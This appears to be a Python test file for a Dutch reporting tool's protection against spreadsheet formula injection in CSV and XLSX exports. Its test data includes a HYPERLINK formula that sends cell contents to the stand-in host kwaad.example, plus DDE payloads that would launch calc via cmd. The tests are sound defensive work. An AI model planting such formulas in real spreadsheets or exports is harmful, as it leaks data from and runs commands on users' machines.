"""Formula injection: text that a spreadsheet would evaluate stays text in every CSV and
XLSX we write, and our own CSV reads back to exactly what was written."""

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from rapportage.exports import Werkmap, csv_bytes
from toegang.formules import als_tekst, is_formule, tekst_uit_csv, tekst_voor_csv

AANVAL = '=HYPERLINK("https://kwaad.example/?"&A2,"Klik hier")'


@pytest.mark.parametrize(
    "tekst",
    [
        AANVAL,
        "=1+1",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "- een opsomming met een streepje",
    ],
)
def test_formula_like_text_is_recognised(tekst):
    assert is_formule(tekst)


@pytest.mark.parametrize(
    "tekst",
    ["", "Gewone tekst", "+31 543 123 456", "+31 (0)543-123456", "-12,5", "-", "0543-123456"],
)  # fmt: skip
def test_numbers_phone_numbers_and_plain_text_are_left_alone(tekst):
    assert not is_formule(tekst)
    assert tekst_voor_csv(tekst) == tekst


def test_csv_puts_an_apostrophe_before_a_formula_and_takes_it_off_again():
    assert tekst_voor_csv(AANVAL) == "'" + AANVAL
    assert tekst_uit_csv("'" + AANVAL) == AANVAL
    # Our own apostrophe is told apart from one that was typed.
    assert tekst_voor_csv("'" + AANVAL) == "''" + AANVAL
    assert tekst_uit_csv("''" + AANVAL) == "'" + AANVAL
    assert tekst_uit_csv("'gewoon") == "'gewoon"


@settings(max_examples=300, derandomize=True)
@given(st.text(alphabet=st.sampled_from("'=+-@\t\r a1(|"), max_size=8) | st.text(max_size=12))
def test_reading_back_what_was_written_gives_the_same_text(tekst):
    geschreven = tekst_voor_csv(tekst)
    assert tekst_uit_csv(geschreven) == tekst
    assert not is_formule(geschreven)


def test_an_xlsx_cell_with_a_formula_is_stored_as_text_with_excels_quote_prefix():
    boek = Workbook()
    blad = boek.active
    als_tekst(blad["A1"], AANVAL)
    als_tekst(blad["A2"], "Gewoon")
    buffer = io.BytesIO()
    boek.save(buffer)
    terug = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert (terug["A1"].value, terug["A1"].data_type, terug["A1"].quotePrefix) == (
        AANVAL,
        "s",
        True,
    )
    assert (terug["A2"].value, terug["A2"].quotePrefix) == ("Gewoon", False)


def test_report_exports_never_write_a_formula():
    rij = [AANVAL, 7, "+31 543 123 456"]
    inhoud = csv_bytes(["Reden", "Aantal", "Telefoon"], [rij]).decode("utf-8-sig")
    gelezen = list(csv.reader(io.StringIO(inhoud), delimiter=";"))
    assert gelezen[1] == ["'" + AANVAL, "7", "+31 543 123 456"]

    map_ = Werkmap()
    map_.blad("Redenen", AANVAL, [AANVAL], ["Reden", "Aantal"], [rij[:2]])
    blad = load_workbook(io.BytesIO(map_.bytes())).worksheets[0]
    cellen = [cel for regel in blad.iter_rows() for cel in regel if cel.value == AANVAL]
    assert len(cellen) == 3  # the title, a line of context, the table cell
    assert all(cel.data_type == "s" and cel.quotePrefix for cel in cellen)
